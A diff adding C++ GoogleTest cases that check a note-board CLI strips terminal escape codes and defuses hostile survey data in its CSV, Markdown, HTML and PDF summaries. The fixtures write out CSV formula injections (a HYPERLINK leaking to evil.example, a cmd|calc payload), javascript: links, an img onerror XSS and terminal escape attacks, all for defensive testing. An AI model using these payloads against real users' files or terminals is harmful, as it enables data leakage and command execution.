@@ -7,6 +7,7 @@
 #include <fcntl.h>
 #include <gtest/gtest.h>
 #include <poll.h>
+#include <pty.h>
 #include <pwd.h>
 #include <sqlite3.h>
 #include <sys/wait.h>
@@ -15,6 +16,7 @@
 #include <algorithm>
 #include <cerrno>
 #include <cstdlib>
+#include <ctime>
 #include <filesystem>
 #include <map>
 #include <regex>
@@ -531,4 +533,141 @@ TEST_F(Cli, TheSampleBoardScriptBuildsASoundBoard) {
     Result again = runWithEnv({"/bin/bash", CC_SAMPLE_SCRIPT, CC_BINARY, sample}, env);
     EXPECT_NE(again.status, 0);
     EXPECT_EQ(readFile(sample), bytes);
+}
+
+// ---- Output that attacks the reader ------------------------------------------------------------
+
+namespace {
+
+/// Runs customer-canvas with its output on a pseudo-terminal, as a person at a terminal runs it;
+/// returns every byte the terminal received.
+std::string onTerminal(const std::vector<std::string>& args, const std::map<std::string, std::string>& env) {
+    int master = -1;
+    const pid_t pid = ::forkpty(&master, nullptr, nullptr, nullptr);
+    if (pid < 0) return "forkpty failed";
+    if (pid == 0) {
+        for (const auto& [k, v] : env) ::setenv(k.c_str(), v.c_str(), 1);
+        std::vector<char*> argv{const_cast<char*>(CC_BINARY)};
+        for (const auto& a : args) argv.push_back(const_cast<char*>(a.c_str()));
+        argv.push_back(nullptr);
+        ::execv(argv[0], argv.data());
+        ::_exit(127);
+    }
+    std::string out;
+    char buf[4096];
+    for (;;) {
+        const ssize_t n = ::read(master, buf, sizeof buf);
+        if (n > 0) out.append(buf, static_cast<std::size_t>(n));
+        else if (n < 0 && errno == EINTR) continue;
+        else break;  // EIO: the program has exited and closed the terminal
+    }
+    int st = 0;
+    ::waitpid(pid, &st, 0);
+    ::close(master);
+    EXPECT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0) << out;
+    return out;
+}
+
+/// The control characters a terminal acts on: ESC, BEL, NUL and the C1 CSI (U+009B).
+void expectNoTerminalControls(const std::string& out, const std::string& what) {
+    EXPECT_EQ(out.find('\x1B'), std::string::npos) << what << ": " << testing::PrintToString(out);
+    EXPECT_EQ(out.find('\x07'), std::string::npos) << what;
+    EXPECT_EQ(out.find('\0'), std::string::npos) << what;
+    EXPECT_EQ(out.find("\xC2\x9B"), std::string::npos) << what;
+}
+
+/// The month it is now (UTC), YYYY-MM: the month a note added now is summarised in.
+std::string thisMonth() {
+    const std::time_t t = std::time(nullptr);
+    std::tm tm{};
+    ::gmtime_r(&t, &tm);
+    char buf[16];
+    std::strftime(buf, sizeof buf, "%Y-%m", &tm);
+    return buf;
+}
+
+}  // namespace
+
+TEST_F(Cli, ListNeverSendsControlCharactersToTheTerminal) {
+    const std::string clear = "\x1B[2J\x1B[H", retitle = "\x1B]0;pwned\x07", csi = "\xC2\x9B" "31m";
+    newBoard("Board\x1B[41m red");
+    const std::string a = add({"--text", "Before" + clear + "after clear", "--source", "survey", "--quadrant", "1", "--segment",
+                               "Seg" + retitle + "ment", "--tag", "t" + csi + "ag"});
+    const std::string b = add({"--text", "Tray" + retitle + "candidate", "--source", "complaint"});
+    ok({"link", board, a, b, "--kind", "relates", "--label", "lab\x1B[8mel"});
+    for (const auto& [how, out] : {std::pair{"on a terminal", onTerminal({"list", board}, env)},
+                                   std::pair{"in a pipe", ok({"list", board})}}) {
+        expectNoTerminalControls(out, how);
+        for (const char* shown : {"Board", "Before", "after clear", "Seg", "ment", "Tray", "candidate", "lab", "el"})
+            EXPECT_NE(out.find(shown), std::string::npos) << how << ": " << shown << " not in:\n" << out;
+    }
+    // The JSON keeps the text, escaped: ESC as \u001B, and the C1 CSI too.
+    const Result json = cc({"list", board, "--json"});
+    EXPECT_EQ(json.status, 0) << json.err;
+    expectNoTerminalControls(json.out, "--json");
+    auto d = listJson();
+    EXPECT_EQ(std::string((*find(d["notes"], a))["text"].GetString()).find("Before"), 0u);
+    // An error message that quotes what it was given shows it the same way.
+    const Result refused = cc({"delete", board, "n-" + clear});
+    EXPECT_EQ(refused.status, 1);
+    expectNoTerminalControls(refused.err, "an error");
+    EXPECT_NE(refused.err.find("no note or link with id 'n-\\x1b[2J\\x1b[H'"), std::string::npos) << refused.err;
+}
+
+TEST_F(Cli, SummaryOfAHostileBoardIsSafeInEveryFormat) {
+    newBoard("Board [x](javascript:alert(1)) <b>bold</b>");
+    // A survey export whose answers, respondents and segments attack whoever opens the report,
+    // imported as a person does; its file name is an attack too.
+    const std::string survey = dir.file("=cmd.csv");
+    cc::test::writeFile(survey,
+                        "respondent,segment,answer\n"
+                        "=1+1,+seg,\"=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Click\"\")\"\n"
+                        "@r2,-seg,=cmd|' /C calc'!A0\n"
+                        "r3,@seg,+1+1 is a formula\n"
+                        "r4,=seg,-2+3 is one too\n"
+                        "r5,seg,[click me](javascript:alert(1)) and ![pixel](http://evil.example/p.png)\n"
+                        "r6,seg,<img src=x onerror=alert(1)> and <http://evil.example/auto> and www.evil.example\n");
+    const Result imported = cc({"--author", "@author", "import", board, survey, "--pin", "1", "--text-column", "answer",
+                                "--id-column", "respondent", "--segment-column", "segment"});
+    ASSERT_EQ(imported.status, 0) << imported.err;
+    add({"--text", "Noncharacter \xEF\xB7\x90 in the middle", "--source", "survey", "--quadrant", "2"});
+    add({"--text", "Ordinary note alpha", "--source", "complaint", "--quadrant", "3", "--votes", "2"});
+    const std::string month = thisMonth();
+    auto summary = [&](const std::string& name) {
+        const std::string out = dir.file(name);
+        EXPECT_EQ(ok({"summary", board, "--month", month, "--out", out}), "wrote the summary of " + month + " to " + out + "\n");
+        return readFile(out);
+    };
+
+    // CSV: no cell starts a formula; the attacks are there, behind a ' and in quotes.
+    const std::string csv = summary("s.csv");
+    static const std::regex kFormulaCell("(^|,)\"?[=+@\\-\\t]");
+    for (std::size_t at = 0, end; at < csv.size(); at = end + 2) {
+        end = csv.find("\r\n", at);
+        if (end == std::string::npos) end = csv.size();
+        const std::string line = csv.substr(at, end - at);
+        EXPECT_FALSE(std::regex_search(line, kFormulaCell)) << line;
+    }
+    for (const char* defused : {"\"'=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Click\"\")\"", "\"'=cmd|' /C calc'!A0\"",
+                                "\"'+1+1 is a formula\"", "\"'-2+3 is one too\"", "\"'@author\"", "\"'+seg\"", "\"'=cmd.csv\""})
+        EXPECT_NE(csv.find(defused), std::string::npos) << defused;
+    EXPECT_NE(csv.find(",2,"), std::string::npos) << "the votes stay a number";
+
+    // Markdown: the link and image syntax is escaped, so nothing links or loads.
+    const std::string md = summary("s.md");
+    for (const char* live : {"](javascript", "![", "<img", "<http", "http://", "www.", "<b>"})
+        EXPECT_EQ(md.find(live), std::string::npos) << live;
+    EXPECT_NE(md.find("\\[click me\\]\\(javascript:alert\\(1\\)\\)"), std::string::npos) << md;
+
+    // HTML: no link, no image, javascript: only as text.
+    const std::string html = summary("s.html");
+    for (const char* live : {"<a ", "<img", "<b>", "href="}) EXPECT_EQ(html.find(live), std::string::npos) << live;
+    EXPECT_NE(html.find("[click me](javascript:alert(1))"), std::string::npos);
+
+    // PDF: the noncharacter does not stop it, and every other note is in it.
+    const std::string pdf = summary("s.pdf");
+    ASSERT_EQ(pdf.rfind("%PDF-", 0), 0u);
+    const Result text = cc::test::run({"/usr/bin/pdftotext", dir.file("s.pdf"), "-"});
+    for (const char* shown : {"Ordinary note alpha", "in the middle", "+1+1 is a formula", "javascript:alert(1)"})
+        EXPECT_NE(text.out.find(shown), std::string::npos) << shown;
 }
